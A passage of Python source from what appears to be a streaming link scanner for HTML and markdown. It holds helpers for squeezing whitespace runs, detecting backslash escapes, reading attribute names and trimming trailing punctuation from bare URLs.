        """A long run of whitespace from ``space`` up to ``keep``: ``_buf`` keeps the context
        before the run and a stand-in for it, then the text from ``keep`` on. The stand-in reads
        the same to every look-back (``_context``): its spaces and tabs squashed, and its last
        characters, where a markdown destination's look-back stops at a second line end."""
        buf, off = self._buf, self._off
        self._tags.advance(self._bytes, off, keep)
        if space >= self._real:
            head = buf[max(space - off - CONTEXT, 0) : space - off]
            run = buf[space - off : keep - off]
        else:  # squeezed before: the same run has grown
            squeezed = max(self._squeezed_at - off, 0)
            head = buf[:squeezed]
            run = buf[squeezed : keep - off]
        squeezed = len(head)
        head += _SQUASH.sub(" ", run)[-16:]
        self._buf = head + buf[keep - off :]
        self._bytes = head.encode("ascii", "replace") + self._bytes[keep - off :]
        self._off = keep - len(head)
        self._real = keep
        self._squeezed_at = self._off + squeezed


def _escaped(data: bytes, at: int, low: int) -> bool:
    """Whether ``data[at]`` follows an odd number of backslashes (from ``low`` on)."""
    count = 0
    while at - count - 1 >= low and data[at - count - 1] == 0x5C:
        count += 1
    return count % 2 == 1


def _quoted(quote: str) -> Mode | None:
    return Mode.DQ if quote == '"' else Mode.SQ if quote == "'" else None


def _attribute(buf: str, equals: int) -> str:
    """The attribute name before ``buf[equals]`` ("="), lower case."""
    k = equals
    while k > 0 and buf[k - 1] in " \t\r\n":
        k -= 1
    start = k
    while start > 0 and (buf[start - 1].isalnum() or buf[start - 1] in "-_:"):
        start -= 1
    return buf[start:k].lower()


def _trim(url: str) -> str:
    """A bare URL less the punctuation that ends a sentence after it (as GFM autolinks)."""
    while url:
        last = url[-1]
        if last in _TRAILING or (last == ")" and url.count(")") > url.count("(")):
            url = url[:-1]
            continue
        break
    return url


register(LinksSpec, LinksShield)
